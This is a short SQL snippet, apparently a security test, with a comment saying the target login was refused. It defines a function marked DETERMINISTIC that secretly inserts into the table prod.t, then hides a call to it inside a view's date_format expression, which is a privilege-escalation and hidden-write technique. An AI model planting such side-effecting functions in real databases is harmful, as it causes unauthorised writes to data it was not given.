-- own account: loads; login of the target: refused
CREATE FUNCTION f() RETURNS varchar(10) DETERMINISTIC BEGIN INSERT INTO prod.t VALUES (9, 9); RETURN '%Y'; END;
CREATE VIEW v AS SELECT date_format(now(), f()) AS y;
